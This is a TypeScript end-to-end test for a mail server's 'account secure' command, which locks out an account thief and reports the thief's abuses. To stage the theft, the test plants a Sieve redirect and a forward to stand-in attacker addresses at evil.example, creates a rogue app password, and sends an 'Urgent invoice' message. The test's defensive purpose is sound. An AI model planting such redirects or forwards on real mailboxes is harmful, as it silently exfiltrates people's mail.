// The stolen-account response end to end (issue 8 item 4, decision 0025): the real `moat
// start`, a thief's client security password used over IMAP by imapflow, a planted Sieve
// redirect outside, a forward setting, mail sent over submission by nodemailer and a login
// from a public address; `moat account secure --json` locks the thief out (the old client
// security password and the old password fail over IMAP), blocks the public address, and its
// report names each abuse with a command that, run, makes the finding go away.
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { ImapFlow } from "imapflow";
import nodemailer from "nodemailer";
import { cliInProcess } from "../support/mail-e2e.js";
import { withDataCore } from "../support/cli.js";
import { startMoat, type MoatProcess } from "../support/server.js";
import { tempDir } from "../support/temp.js";

const PW = "a-long-test-password-1";
const alice = "alice@example.com";

describe("moat account secure end to end", { timeout: 300_000 }, () => {
  let moat: MoatProcess;
  let data = "";
  let root = "";

  const cli = async (...args: string[]) => {
    const r = await cliInProcess(data, args);
    assert.equal(r.code, 0, `moat ${args.join(" ")}: ${r.stderr}`);
    return r.stdout;
  };
  const json = (text: string) => text.trim().split("\n").filter((l) => l !== "").map((l) => JSON.parse(l) as Record<string, unknown>);
  const imapLogin = async (user: string, pass: string): Promise<boolean> => {
    const client = new ImapFlow({ host: "127.0.0.1", port: moat.ports.imap!, secure: false, auth: { user, pass }, logger: false, doSTARTTLS: false });
    client.on("error", () => undefined);
    try {
      await client.connect();
      await client.logout();
      return true;
    } catch {
      return false;
    }
  };

  before(async () => {
    root = tempDir({ after: (fn: () => void) => process.on("exit", fn) });
    data = path.join(root, "data");
    fs.writeFileSync(path.join(root, "zone.json"), JSON.stringify({ "*": "nxdomain" }));
    const env = { MOAT_DNS_ZONE_FILE: path.join(root, "zone.json"), MOAT_AUTH_FAILURE_DELAY_MS: "0", MOAT_QUEUE_POLL_SECONDS: "3600" };
    Object.assign(process.env, env);
    await cli("init", "--domain", "example.com");
    for (const user of [alice, "bob@example.com"]) await cli("user", "add", user, "--password", PW);
    moat = await startMoat(data, env);
  });

  after(async () => {
    await moat?.stop();
  });

  it("locks the thief out over IMAP, blocks the public address, and every fix in the report works", async () => {
    const [created] = json(await cli("--json", "apppass", "add", alice, "--name", "thief-phone"));
    const secret = String(created?.secret);
    assert.equal(await imapLogin(alice, secret), true, "the thief's client security password works before");
    const script = path.join(root, "thief.sieve");
    fs.writeFileSync(script, 'redirect "drop@evil.example";\n');
    await cli("sieve", "put", alice, script, "--activate");
    await cli("user", "set", alice, "--forward", "copy@evil.example");
    const submit = nodemailer.createTransport({ host: "127.0.0.1", port: moat.ports.submission!, secure: false, tls: { rejectUnauthorized: false }, auth: { user: alice, pass: PW } });
    await submit.sendMail({ from: alice, to: ["bob@example.com", "boss@partner.example"], subject: "Urgent invoice", text: "pay", messageId: "<thief-1@example.com>" });
    // A login from a public address, through the server's own authenticate() (a loopback client cannot be one).
    await withDataCore(data, async (app) => assert.ok((await app.authenticate("imap", alice, PW, { ip: "1.1.1.1", secure: true, method: "TEST LOGIN" })).ok));

    const [result] = json(await cli("--json", "account", "secure", alice));
    assert.ok(result);
    assert.equal(typeof result.temporaryPassword, "string");
    assert.deepEqual((result.blocked as Array<{ ip: string }>).map((b) => b.ip), ["1.1.1.1"]);
    assert.equal(result.twoFactorRequired, true);
    assert.equal(result.securityPasswordRequired, true);
    assert.deepEqual(result.revoked, { appPasswords: 1, webSessions: 0, rememberedBrowsers: 0 });
    assert.equal(await imapLogin(alice, secret), false, "the old client security password fails over IMAP");
    assert.equal(await imapLogin(alice, PW), false, "the old password fails over IMAP");
    assert.equal(await imapLogin(alice, String(result.temporaryPassword)), false, "a temporary password is for the web only");
    const blocks = json(await cli("--json", "ip", "list")).filter((r) => r.cidr === "1.1.1.1/32");
    assert.equal(blocks.length, 1);
    assert.ok(typeof blocks[0]?.expiresAt === "string");

    const findings = result.findings as Array<{ kind: string; fix: string | null; sentence: string }>;
    assert.deepEqual(findings.map((f) => f.kind), ["sieve_redirect", "forward_setting", "app_password", "sent_mail"]);
    assert.match(findings[0]!.sentence, /outside the company to drop@evil\.example/);
    assert.match(findings[3]!.sentence, /Urgent invoice.*boss@partner\.example/);
    for (const f of findings.filter((x) => x.fix !== null)) {
      const words = f.fix!.split(" ");
      assert.equal(words[0], "moat");
      await cli(...words.slice(1));
    }
    const left = json(await cli("--json", "account", "report", alice)).map((f) => f.kind);
    // The Sieve redirect and the forward are gone; the sent mail stays listed (its trace outlives the recall).
    assert.deepEqual(left, ["sent_mail"]);
    const audit = json(await cli("--json", "audit", "list")).map((e) => e.action);
    assert.ok(audit.includes("account.secure"));
  });

  it("an unknown address exits 2 and writes nothing", async () => {
    const auditBefore = (await cli("--json", "audit", "list")).length;
    const r = await cliInProcess(data, ["--json", "account", "secure", "nobody@example.com"]);
    assert.equal(r.code, 2);
    assert.equal(r.stdout, "");
    assert.match(r.stderr, /nobody@example\.com/);
    const bad = await cliInProcess(data, ["account", "secure", alice, "--since", "soon"]);
    assert.equal(bad.code, 2);
    assert.equal((await cli("--json", "audit", "list")).length, auditBefore);
  });
});
